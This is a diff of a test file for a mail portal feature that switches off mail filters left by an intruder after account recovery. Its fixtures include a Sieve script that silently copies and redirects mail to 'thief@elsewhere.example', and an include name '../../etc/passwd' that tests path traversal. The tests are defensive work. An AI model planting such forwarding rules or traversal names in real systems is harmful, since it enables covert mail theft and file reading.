@@ -1,11 +1,11 @@
-// Filters that wait: switched off by every recovery, told with where they lead, kept or removed by their owner alone.
+// Held filters: switched off by every recovery, and kept or removed by their owner alone.
 import assert from 'node:assert/strict'
 import { randomUUID } from 'node:crypto'
 import { describe, it } from 'node:test'
 import { runCommand } from '#server/cli/portal.ts'
 import { readWithIncluded } from '#server/mail/filters/hold-back.ts'
 import { insertHeldFilter } from '#server/mail/filters/store.ts'
-import { type FilterDoor, PlatformError } from '#server/mail/mail-platform/mail-platform.ts'
+import { PlatformError, type PlatformFilters } from '#server/mail/mail-platform/mail-platform.ts'
 import { createMemoryPlatform } from '#server/mail/mail-platform/memory.ts'
 import { arrive, signIn } from '#test/support/people.ts'
 import { eventually, startTestPortal } from '#test/support/portal.ts'
@@ -25,7 +25,7 @@ import type { Answer, Visitor } from '#test/support/visitor.ts'
 
 const page = '/account/filters'
 const next = 'a password after the reset'
-/** Blanks and line ends as no program would write them by itself. */
+/** Blanks and line ends that no program writes by itself. */
 const theft = {
   name: 'main',
   text: 'require "copy";\r\n\n  redirect :copy "thief@elsewhere.example";# ☂\n',
@@ -56,8 +56,8 @@ const press = (visitor: Visitor, html: string, what: 'keep' | 'remove', nth = 0)
   )
   return visitor.post(paths[nth] ?? assert.fail(`no button to ${what}`), {}, { from: page })
 }
-/** What the next page says was done, or why nothing was. */
-const toldBy = ({ headers }: Answer) =>
+/** What the next page says was done, or why nothing was done. */
+const flashOf = ({ headers }: Answer) =>
   /(?:^|-)done=([^;]*)/m.exec(headers.getSetCookie().join('\n'))?.[1]
 const opposite = { keep: 'remove', remove: 'keep' } as const
 const doneBy = { keep: 'kept', remove: 'removed' } as const
@@ -126,26 +126,30 @@ describe('a filter that a stranger left', () => {
       })
     },
   }
-  for (const [name, way] of Object.entries(ways)) {
-    it(`is switched off by ${name}, after the sessions of mail programs have ended`, async () => {
-      const person = await burgled()
-      const before = platform.calls.length
-      await way(person)
-      await eventually(async () => (await active(person.mailbox)) === undefined)
-      const calls = platform.calls.slice(before).filter(({ address }) => address === person.mailbox)
-      const order = calls.map(({ call }) => call)
-      assert.ok(order.indexOf('endSessions') >= 0)
-      assert.ok(
-        order.lastIndexOf('endSessions', order.indexOf('filters.deactivate')) >= 0,
-        order.join(),
-      )
-      assert.deepEqual(await eventsOf(person.accountId), ['filters.held'])
-    })
+
+  async function endsBy(way: (person: Equipped) => Promise<unknown>): Promise<void> {
+    const person = await burgled()
+    const before = platform.calls.length
+    await way(person)
+    await eventually(async () => (await active(person.mailbox)) === undefined)
+    const calls = platform.calls.slice(before).filter(({ address }) => address === person.mailbox)
+    const order = calls.map(({ call }) => call)
+    assert.ok(order.indexOf('endSessions') >= 0)
+    const off = order.indexOf('filters.deactivate')
+    assert.ok(order.lastIndexOf('endSessions', off) >= 0, order.join())
+    assert.deepEqual(await eventsOf(person.accountId), ['filters.held'])
   }
+
+  it('no filter survives a recovery or the end of all sessions by itself', async (t) => {
+    for (const [name, way] of Object.entries(ways)) {
+      await forgetLimits(portal)
+      await t.test(name, () => endsBy(way))
+    }
+  })
 })
 
 describe('the page of filters', () => {
-  it('shows where one leads and since when it waits; the overview and the record tell of it', async () => {
+  it('the page shows where a held filter leads, and overview and activity mention it', async () => {
     const { person, visitor } = await recovered()
     assert.match(
       (await visitor.get('/account')).html,
@@ -165,13 +169,13 @@ describe('the page of filters', () => {
     assert.ok(!JSON.stringify(row).includes('thief'), 'what a filter says is sealed')
   })
 
-  it('says that none waits where none does', async () => {
+  it('the page says that no filter waits if none does', async () => {
     const { visitor } = await arrive(portal)
     assert.match((await visitor.get(page)).html, /No filter is waiting for you/)
     assert.doesNotMatch((await visitor.get('/account')).html, /account\/filters/)
   })
 
-  it('is for the owner alone, and deciding demands a fresh password', async () => {
+  it('only its owner decides on a held filter, with a recent password', async () => {
     const { person, visitor } = await recovered()
     assert.equal(
       (await portal.visitor().get(page)).location,
@@ -192,7 +196,7 @@ describe('the page of filters', () => {
         `${page}/nonsense/${what}`,
       ]) {
         const answer = await stranger.post(asked, {}, { from: '/account/password' })
-        assert.deepEqual([answer.status, toldBy(answer)], [404, undefined], asked)
+        assert.deepEqual([answer.status, flashOf(answer)], [404, undefined], asked)
       }
     }
     assert.deepEqual(
@@ -217,7 +221,7 @@ describe('the page of filters', () => {
     )
   })
 
-  it('brings back byte for byte what is kept, once, even when the button is pressed twice', async () => {
+  it('a kept filter works again byte for byte, once, even if kept twice', async () => {
     const { person, visitor } = await recovered()
     const { html } = await visitor.get(page)
     const answers = await Promise.all([press(visitor, html, 'keep'), press(visitor, html, 'keep')])
@@ -237,7 +241,7 @@ describe('the page of filters', () => {
     )
   })
 
-  it('deletes from the mailbox what is removed', async () => {
+  it('a removed filter is deleted from the mailbox', async () => {
     const { person, visitor } = await recovered()
     assert.equal((await press(visitor, (await visitor.get(page)).html, 'remove')).location, page)
     await settled(person.mailbox)
@@ -249,7 +253,7 @@ describe('the page of filters', () => {
     assert.deepEqual(await eventsOf(person.accountId), ['filters.held', 'filters.removed'])
   })
 
-  it('tells of what an included script does, and of one whose include is missing', async () => {
+  it('the page describes an included script, and says if an include is missing', async () => {
     const person = await burgled()
     await platform.filters?.write(person.mailbox, {
       name: 'quiet',
@@ -267,51 +271,44 @@ describe('the page of filters', () => {
 })
 
 describe('a decision on a filter', () => {
-  for (const first of ['keep', 'remove'] as const) {
+  async function contradict(first: 'keep' | 'remove'): Promise<void> {
     const second = opposite[first]
     const stands = `${doneBy[first]}-before`
-    it(`to ${first} it stands when an old page says ${second}, and that page is told so`, async () => {
-      const { person, visitor } = await recovered()
-      const { html } = await visitor.get(page)
-      await portal.stopWorker()
-      try {
-        assert.equal(toldBy(await press(visitor, html, first)), doneBy[first])
-        assert.equal(
-          toldBy(await press(visitor, html, second)),
-          stands,
-          'before the platform knows',
-        )
-        assert.equal(toldBy(await press(visitor, html, first)), doneBy[first])
-      } finally {
-        await portal.startWorker()
-      }
-      const result = first === 'keep' ? theft : undefined
-      assert.deepEqual(await active(person.mailbox), result)
-      const done = () =>
-        portal.db('settled_filters').where({ account_id: person.accountId }).first()
-      assert.equal((await eventually(done)).decision, first)
-      assert.equal(
-        toldBy(await press(visitor, html, second)),
-        stands,
-        'when it is done on the platform',
-      )
-      const shown = (await visitor.get(page)).html
-      assert.match(shown, new RegExp(`notice--warning.*already been ${doneBy[first]}`, 's'))
-      assert.doesNotMatch(shown, /notice--success/)
-      assert.equal(
-        toldBy(await press(visitor, html, first)),
-        doneBy[first],
-        'the same again is answered as the first',
-      )
-      assert.deepEqual(await active(person.mailbox), result)
-      assert.deepEqual(await eventsOf(person.accountId), [
-        'filters.held',
-        `filters.${doneBy[first]}`,
-      ])
-    })
+    const result = first === 'keep' ? theft : undefined
+    const { person, visitor } = await recovered()
+    const { html } = await visitor.get(page)
+    const flashAfter = async (what: typeof first) => flashOf(await press(visitor, html, what))
+
+    await portal.stopWorker()
+    try {
+      assert.equal(await flashAfter(first), doneBy[first])
+      assert.equal(await flashAfter(second), stands, 'before the platform knows')
+      assert.equal(await flashAfter(first), doneBy[first])
+    } finally {
+      await portal.startWorker()
+    }
+    assert.deepEqual(await active(person.mailbox), result)
+    const done = () => portal.db('settled_filters').where({ account_id: person.accountId }).first()
+    assert.equal((await eventually(done)).decision, first)
+
+    assert.equal(await flashAfter(second), stands, 'when it is done on the platform')
+    const shown = (await visitor.get(page)).html
+    assert.match(shown, new RegExp(`notice--warning.*already been ${doneBy[first]}`, 's'))
+    assert.doesNotMatch(shown, /notice--success/)
+    assert.equal(await flashAfter(first), doneBy[first], 'the same again is answered as the first')
+    assert.deepEqual(await active(person.mailbox), result)
+    const events = ['filters.held', `filters.${doneBy[first]}`]
+    assert.deepEqual(await eventsOf(person.accountId), events)
   }
 
-  it('is told as done to one of two that contradict each other at once', async () => {
+  it('an old page that contradicts a decision changes nothing and learns what stands', async (t) => {
+    for (const first of ['keep', 'remove'] as const) {
+      await forgetLimits(portal)
+      await t.test(`${first}, then ${opposite[first]}`, () => contradict(first))
+    }
+  })
+
+  it('of two contradicting decisions at once, only one is reported as done', async () => {
     for (let nth = 0; nth < 8; nth += 1) {
       await forgetLimits(portal)
       const { person, visitor } = await recovered()
@@ -320,7 +317,7 @@ describe('a decision on a filter', () => {
         press(visitor, html, 'keep'),
         press(visitor, html, 'remove'),
       ])
-      const [keep, remove] = answers.map(toldBy)
+      const [keep, remove] = answers.map(flashOf)
       assert.ok(
         (keep === 'kept' && remove === 'kept-before') ||
           (keep === 'removed-before' && remove === 'removed'),
@@ -334,18 +331,18 @@ describe('a decision on a filter', () => {
     }
   })
 
-  it('to keep it is no decision while nobody knows what would be kept', async () => {
+  it('a filter cannot be kept until it was read', async () => {
     const { person, visitor } = await recovered()
     const { html } = await visitor.get(page)
     const row = portal.db('held_filters').where({ account_id: person.accountId })
     await row.clone().update({ read_at: null })
-    assert.equal(toldBy(await press(visitor, html, 'keep')), 'unread')
+    assert.equal(flashOf(await press(visitor, html, 'keep')), 'unread')
     assert.match((await visitor.get(page)).html, /what this filter does is still being read/)
     assert.equal((await row.clone().first()).decision, null)
-    assert.equal(toldBy(await press(visitor, html, 'remove')), 'removed')
+    assert.equal(flashOf(await press(visitor, html, 'remove')), 'removed')
   })
 
-  it('to remove it is carried out also where it was not read yet and the same one waits already', async () => {
+  it('an unread filter is removed even if the same filter waits already', async () => {
     const { person, visitor } = await recovered()
     await portal.stopWorker()
     try {
@@ -354,7 +351,7 @@ describe('a decision on a filter', () => {
       const twin = { accountId: person.accountId, name: theft.name, at: portal.clock.now() }
       await portal.db.transaction((trx) => insertHeldFilter(trx, portal.keyring, twin))
       assert.equal(
-        toldBy(await press(visitor, (await visitor.get(page)).html, 'remove')),
+        flashOf(await press(visitor, (await visitor.get(page)).html, 'remove')),
         'removed',
       )
     } finally {
@@ -364,7 +361,7 @@ describe('a decision on a filter', () => {
     assert.deepEqual(await platform.filters?.list(person.mailbox), [])
   })
 
-  it('counts no more when everything of before ends again: a page of then decides nothing', async () => {
+  it('an old page decides nothing after all sessions have ended again', async () => {
     const { person, visitor } = await recovered()
     const { html } = await visitor.get(page)
     await press(visitor, html, 'keep')
@@ -381,7 +378,7 @@ describe('a decision on a filter', () => {
     )
   })
 
-  it('is remembered as long as a session can last', async () => {
+  it('a decision on a filter is remembered as long as a session can last', async () => {
     const { person, visitor } = await recovered()
     await press(visitor, (await visitor.get(page)).html, 'remove')
     const known = () => portal.db('settled_filters').where({ account_id: person.accountId }).first()
@@ -400,14 +397,14 @@ describe('a decision on a filter', () => {
 })
 
 describe('a script that names another', () => {
-  it('Security: has none read that the mailbox does not list: its name could be a path', async () => {
+  it('an included script is read only if the mailbox lists it', async () => {
     const texts: Record<string, string> = {
       main: 'require "include"; include "quiet"; include "../../etc/passwd";',
       quiet: 'keep;',
       '../../etc/passwd': 'root:x:0:0',
     }
     const read: string[] = []
-    const door = {
+    const filters = {
       list: async () => [
         { name: 'main', active: true },
         { name: 'quiet', active: false },
@@ -418,7 +415,7 @@ describe('a script that names another', () => {
       },
     }
     const scripts = await readWithIncluded(
-      door as unknown as FilterDoor,
+      filters as unknown as PlatformFilters,
       'hanna.k@postern.example',
       'main',
     )
@@ -431,7 +428,7 @@ describe('a script that names another', () => {
 })
 
 describe('a filter that waits', () => {
-  it('does not stand in the way of one that its owner sets up afterwards', async () => {
+  it('a held filter does not replace one that its owner sets up afterwards', async () => {
     const { person, visitor } = await recovered()
     const own = { name: 'mine', text: 'redirect "sister@elsewhere.example";' }
     platform.putFilter(person.mailbox, own)
@@ -439,7 +436,7 @@ describe('a filter that waits', () => {
     assert.deepEqual(await active(person.mailbox), own)
   })
 
-  it('is not brought back, and nothing is overwritten, where it was changed in the mailbox meanwhile', async () => {
+  it('a held filter that was changed meanwhile is neither switched on nor overwritten', async () => {
     const { person, visitor } = await recovered()
     const own = { name: 'main', text: 'redirect "sister@elsewhere.example";' }
     platform.putFilter(person.mailbox, own)
@@ -451,14 +448,14 @@ describe('a filter that waits', () => {
     assert.deepEqual(await active(person.mailbox), own)
   })
 
-  it('is written again where it was deleted in the mailbox meanwhile', async () => {
+  it('a held filter that was deleted meanwhile is written again when it is kept', async () => {
     const { person, visitor } = await recovered()
     await platform.filters?.remove(person.mailbox, 'main')
     await press(visitor, (await visitor.get(page)).html, 'keep')
     assert.deepEqual(await active(person.mailbox), theft)
   })
 
-  it('is not lost where an answer of the platform is', async () => {
+  it('a held filter is not lost with an answer of the platform', async () => {
     const calls = ['list', 'deactivate', 'read', 'activate'] as const
     for (const call of calls) {
       const person = await burgled()
@@ -474,7 +471,7 @@ describe('a filter that waits', () => {
     }
   })
 
-  it('waits once, also after a second reset, and after its owner switched it on elsewhere', async () => {
+  it('a filter waits once, even after a second reset', async () => {
     const { person } = await recovered()
     platform.putFilter(person.mailbox, theft)
     const again = 'yet another long password'
@@ -486,7 +483,7 @@ describe('a filter that waits', () => {
     )
   })
 
-  it('waits again where a reset comes between the decision and the platform', async () => {
+  it('a decision to keep a filter ends with the next recovery', async () => {
     const { person, visitor } = await recovered()
     const { html } = await visitor.get(page)
     const reset = await proveByLink(person)
@@ -505,7 +502,7 @@ describe('a filter that waits', () => {
     )
   })
 
-  it('is under the newest key after a change of keys', async () => {
+  it('held filters are sealed under the newest key after rekeying', async () => {
     const { person } = await recovered()
     const newest = 'a-newer-key-0123456789abcdefghijklmnop'
     const env = {
@@ -525,7 +522,7 @@ describe('a filter that waits', () => {
 })
 
 describe('a mail platform', () => {
-  it('that does not tell what is at work switches it off all the same, and the new password counts as live', async () => {
+  it('a platform that cannot list filters switches them off all the same', async () => {
     const person = await burgled()
     const error = new PlatformError('permanent', 'doveadm refused the command: unAuthorized')
     platform.next('filters.list', { kind: 'fail', error })
@@ -544,7 +541,7 @@ describe('a mail platform', () => {
     assert.match((await visitor.get(page)).html, /filters of your mailbox are being switched off/)
   })
 
-  it('whose filters cannot be reached: page and overview say so until their owner has looked', async () => {
+  it('page and overview say that filters cannot be reached until their owner has looked', async () => {
     const { filters: _, ...without } = createMemoryPlatform()
     const other = await startTestPortal({ ports: { platform: without } })
     try {
